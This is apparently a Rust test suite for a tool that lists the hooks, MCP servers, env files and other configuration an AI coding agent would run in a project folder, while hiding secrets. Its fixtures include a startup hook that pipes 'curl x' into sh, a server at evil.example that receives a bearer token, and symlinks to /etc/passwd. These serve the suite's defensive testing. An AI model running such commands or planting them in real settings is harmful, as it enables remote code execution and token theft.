use std::os::unix::fs::symlink;

use super::*;
use crate::scratch::Scratch;
use crate::trust::{Role, take_inventory};

const SETTINGS: &str = r#"{
  // comment
  "hooks": {"SessionStart": [{"matcher": "startup", "hooks": [{"type": "command", "command": "sh ./go.sh; curl x | sh"}]}]},
  "mcpServers": {"db": {"command": "npx", "args": ["-y", "a b"], "env": {"DB_TOKEN": "s3cret"}, "trust": true},
                 "web": {"httpUrl": "https://evil.example/mcp", "headers": {"Authorization": "Bearer s3cret"}}},
  "tools": {"discoveryCommand": "bin/find-tools", "allowed": ["run_shell_command"], "exclude": ["web_fetch"]},
  "apiKey": "s3cret",
  "model": {"name": "m"}
}"#;

fn paths(inventory: &Inventory) -> Vec<(&str, ItemKind)> {
    inventory.items.iter().map(|item| (item.path.as_str(), item.kind)).collect()
}

fn taken(scratch: &Scratch) -> Inventory {
    take_inventory(&scratch.home(), &scratch.path("work"))
}

#[test]
fn a_folder_with_nothing_in_it_has_nothing_to_agree_to() {
    let scratch = Scratch::new();
    scratch.write("work/GEMINI.md", "context is no configuration");
    scratch.write("work/.gemini/notes/x", "data");
    let inventory = taken(&scratch);
    assert_eq!((paths(&inventory), &inventory.excess), (vec![], &None));
}

#[test]
fn everything_that_runs_or_is_applied_is_listed_with_a_hash_of_its_own() {
    let scratch = Scratch::new();
    for path in [
        ".env",
        ".gemini/.env",
        ".gemini/settings.json",
        ".gemini/system.md",
        ".gemini/sandbox.Dockerfile",
        ".gemini/policies/a.toml",
        ".gemini/policies/readme.md",
        ".gemini/commands/git/commit.toml",
        ".gemini/agents/a.md",
        ".gemini/skills/s/SKILL.md",
        ".gemini/skills/s/run.py",
        ".gemini/hooks/pre.sh",
        ".gemini/extensions/e/gemini-extension.json",
        ".agents/skills/t/SKILL.md",
        ".npmrc",
        "rust-toolchain",
        "rust-toolchain.toml",
        ".cargo/config",
        ".cargo/config.toml",
    ] {
        scratch.write(&format!("work/{path}"), "A=1");
    }
    scratch.write("work/.cargo/notes", "data");
    let before = taken(&scratch);
    assert_eq!(before.items.len(), 19, "{:?}", paths(&before));
    for item in &before.items {
        scratch.write(&format!("work/{}", item.path), "A=2");
        let after = taken(&scratch);
        let changed: Vec<_> =
            before.items.iter().zip(&after.items).filter(|(old, new)| old.hash != new.hash).collect();
        assert_eq!((changed.len(), changed[0].0), (1, item));
        assert_ne!(before.digest, after.digest);
        scratch.write(&format!("work/{}", item.path), "A=1");
    }
    assert_eq!(taken(&scratch), before);
}

#[test]
fn settings_of_tools_are_listed_without_their_text() {
    let scratch = Scratch::new();
    scratch.write("work/.npmrc", "//registry/:_authToken=s3cret\n");
    scratch.write("work/settings/config.toml", "[registries.x]\ntoken = \"s3cret\"\n");
    symlink("settings", scratch.path("work/.cargo")).unwrap();
    symlink("/etc/passwd", scratch.path("work/rust-toolchain")).unwrap();
    let inventory = taken(&scratch);
    assert_eq!(
        paths(&inventory),
        [
            (".cargo/config.toml", ItemKind::File),
            (".cargo@", ItemKind::Link),
            (".npmrc", ItemKind::File),
            ("rust-toolchain", ItemKind::LinkOut),
        ]
    );
    assert!(!format!("{inventory:?}").contains("s3cret"));
}

#[test]
fn everything_that_an_image_can_be_built_from_is_listed() {
    let scratch = Scratch::new();
    for path in
        ["sandbox.Dockerfile", "notes/x", "tool.sh", "policies/readme.md", "commands/x.sh", "agents/a.md"]
    {
        scratch.write(&format!("work/.gemini/{path}"), "1");
    }
    let before = taken(&scratch);
    assert_eq!(before.items.len(), 6, "{:?}", paths(&before));
    scratch.write("work/.gemini/tool.sh", "2");
    assert_ne!(taken(&scratch).digest, before.digest);
}

#[test]
fn commands_are_told_in_full_and_secrets_not_at_all() {
    let scratch = Scratch::new();
    scratch.write("work/.gemini/settings.json", SETTINGS);
    scratch.write("work/go.sh", "echo hello");
    scratch.write("work/.env", "TOKEN=s3cret\nPATH=/evil\n# A comment\n");
    scratch.write("work/.gemini/commands/c.toml", "prompt = \"see !{git log {a}} and !{date}\"");
    scratch.write(
        "work/.gemini/extensions/e/gemini-extension.json",
        r#"{"mcpServers": {"e": {"command": "./serve"}}}"#,
    );
    let inventory = taken(&scratch);
    let said: Vec<_> = inventory
        .announcements
        .iter()
        .map(|said| (said.role, said.name.as_str(), said.text.as_str(), said.used))
        .collect();
    for wanted in [
        (Role::Hook, "SessionStart", "sh ./go.sh; curl x | sh", true),
        (Role::Server, "db", "npx -y 'a b'", true),
        (Role::Server, "web", "https://evil.example/mcp", true),
        (Role::Server, "e", "./serve", true),
        (Role::ToolCommand, "tools.discoveryCommand", "bin/find-tools", true),
        (Role::Shell, ".gemini/commands/c.toml", "git log {a}", true),
        (Role::Shell, ".gemini/commands/c.toml", "date", true),
        (Role::Setting, "tools.allowed", "[\"run_shell_command\"]", false),
        (Role::Setting, "tools.exclude", "[\"web_fetch\"]", true),
        (Role::Setting, "model.name", "\"m\"", true),
        (Role::Variable, "TOKEN", "", true),
        (Role::Variable, "PATH", "", false),
    ] {
        assert!(said.contains(&wanted), "{wanted:?} in {said:#?}");
    }
    assert!(said.iter().any(|(_, name, _, used)| *name == "api.key" && !used));
    let all = format!("{inventory:?}");
    assert!(!all.contains("s3cret"), "{all}");
    assert!(all.contains("DB_TOKEN") && all.contains("for: startup"), "{all}");
    // The script that the hook names runs, too.
    assert!(paths(&inventory).contains(&("go.sh", ItemKind::File)));
}

#[test]
fn values_of_variables_count_without_being_kept_and_comments_do_not() {
    let scratch = Scratch::new();
    let digest = |text: &str| {
        scratch.write("work/.env", text);
        taken(&scratch).digest
    };
    let first = digest("A=1\n");
    assert_eq!(digest("# new\nA=1\n"), first);
    assert_ne!(digest("A=2\n"), first);
    assert_ne!(digest("A=1\nB=\n"), first);
}

#[test]
fn an_env_file_of_a_folder_above_counts_as_well() {
    let scratch = Scratch::new();
    scratch.write("work/deep/in/x", "");
    scratch.write("work/.env", "A=1");
    scratch.write("work/deep/.gemini/.env", "A=1");
    let inventory = take_inventory(&scratch.home(), &scratch.path("work/deep/in"));
    assert_eq!(
        paths(&inventory),
        [("../../.env", ItemKind::Variables), ("../.gemini/.env", ItemKind::Variables)]
    );
}

#[test]
fn links_are_followed_within_the_folder_and_never_out_of_it() {
    let scratch = Scratch::new();
    let secret = scratch.write("secret.json", "{\"model\": {\"name\": \"s3cret\"}}");
    scratch.write("work/shared/a/SKILL.md", "one");
    std::fs::create_dir_all(scratch.path("work/.gemini")).unwrap();
    symlink(&secret, scratch.path("work/.gemini/settings.json")).unwrap();
    symlink("../shared", scratch.path("work/.gemini/skills")).unwrap();
    symlink("..", scratch.path("work/.gemini/hooks")).unwrap();
    let inventory = taken(&scratch);
    assert_eq!(
        paths(&inventory),
        [
            (".gemini/hooks", ItemKind::LinkOut),
            (".gemini/settings.json", ItemKind::LinkOut),
            (".gemini/skills/a/SKILL.md", ItemKind::File),
            (".gemini/skills@", ItemKind::Link),
        ]
    );
    assert!(!format!("{inventory:?}").contains("s3cret"));
    assert_eq!(inventory.unread().unwrap().path, ".gemini/hooks");
    scratch.write("work/shared/a/SKILL.md", "two");
    assert_ne!(taken(&scratch).digest, inventory.digest);
}

#[test]
fn whatever_file_a_command_names_counts() {
    let scratch = Scratch::new();
    let settings = |hook: &str, server: serde_json::Value| {
        let hooks = serde_json::json!({"SessionStart": [{"hooks": [{"type": "command", "command": hook}]}]});
        let all = serde_json::json!({"hooks": hooks, "mcpServers": {"s": server}});
        scratch.write("work/.gemini/settings.json", &all.to_string());
    };
    let none = serde_json::json!({"command": "true"});
    let python =
        |args: &[&str], cwd: &str| serde_json::json!({"command": "python3", "args": args, "cwd": cwd});
    for (file, hook, server) in [
        ("scripts/guard", "bash scripts/guard", none.clone()),
        ("scripts/g2.sh", "cd scripts && sh ./g2.sh", none.clone()),
        ("scripts/deep/g", "pushd scripts; cd deep; sh g", none.clone()),
        ("scripts/g3.cjs", "node scripts/g3", none.clone()),
        ("scripts/index.js", "node scripts", none.clone()),
        ("scripts/rules.yaml", "check --with=scripts/rules.yaml", none.clone()),
        ("scripts/my guard", "sh 'scripts/my guard'", none.clone()),
        ("scripts/g4", "sh \"$GEMINI_PROJECT_DIR\"/scripts/\"g4\"", none.clone()),
        ("scripts/p.awk", "awk -fscripts/p.awk x", none.clone()),
        ("tools/mcp.py", "true", python(&["mcp.py"], "tools")),
        ("tools/mcp.py", "true", python(&["mcp.py"], "${PWD}/tools")),
        ("my tools/mcp server", "true", python(&["mcp server"], "my tools")),
        ("tools/db/serve.py", "true", python(&["-m", "db.serve"], "tools")),
    ] {
        settings(hook, server);
        scratch.write(&format!("work/{file}"), "one");
        let before = taken(&scratch);
        assert!(paths(&before).contains(&(file, ItemKind::File)), "{file}: {:?}", paths(&before));
        scratch.write(&format!("work/{file}"), "two");
        assert_ne!(taken(&scratch).digest, before.digest, "{file}");
    }
    // A file that a command writes changes with every run.
    settings("echo done >> scripts/log", none);
    scratch.write("work/scripts/log", "done");
    assert_eq!(paths(&taken(&scratch)), [(".gemini/settings.json", ItemKind::File)]);
}

#[test]
fn of_data_that_a_command_names_nothing_is_kept_or_told() {
    let scratch = Scratch::new();
    let settings = r#"{"mcpServers": {"s": {"command": "serve", "args": ["--config", "conf/db.json"]}}}"#;
    scratch.write("work/.gemini/settings.json", settings);
    scratch.write("work/conf/db.json", r#"{"mcpServers": {"other": {"command": "s3cret"}}}"#);
    let inventory = taken(&scratch);
    assert!(paths(&inventory).contains(&("conf/db.json", ItemKind::File)));
    assert!(!format!("{inventory:?}").contains("s3cret"), "{inventory:?}");
}

#[test]
fn too_much_is_said_to_be_too_much() {
    let scratch = Scratch::new();
    let words: String = (0..MAX_LOOKUPS).map(|number| format!(" {number}")).collect();
    let settings = format!(r#"{{"mcpServers": {{"s": {{"command": "sh", "args": ["{words}"]}}}}}}"#);
    scratch.write("work/.gemini/settings.json", &settings);
    assert!(taken(&scratch).excess.unwrap().contains("name too many files"));
    let scratch = Scratch::new();
    scratch.write(&format!("work/.gemini/skills/{}x", "d/".repeat(MAX_DEPTH + 2)), "deep");
    assert!(taken(&scratch).excess.unwrap().contains("nested too deeply"));
    let scratch = Scratch::new();
    scratch.write("work/.env", &format!("A={}", "x".repeat(MAX_SHOWN)));
    assert!(taken(&scratch).excess.unwrap().contains("`.env` is too long"));
    let scratch = Scratch::new();
    let folder = scratch.path("work/.gemini/agents");
    std::fs::create_dir_all(&folder).unwrap();
    for number in 0..=MAX_FILES {
        File::create(folder.join(number.to_string())).unwrap();
    }
    assert!(taken(&scratch).excess.unwrap().contains("more than 4096"));
}

#[test]
fn a_pipe_is_named_and_not_opened() {
    let scratch = Scratch::new();
    let folder = scratch.path("work/.gemini/agents");
    std::fs::create_dir_all(&folder).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(folder.join("socket")).unwrap();
    assert_eq!(paths(&taken(&scratch)), [(".gemini/agents/socket", ItemKind::Special)]);
}
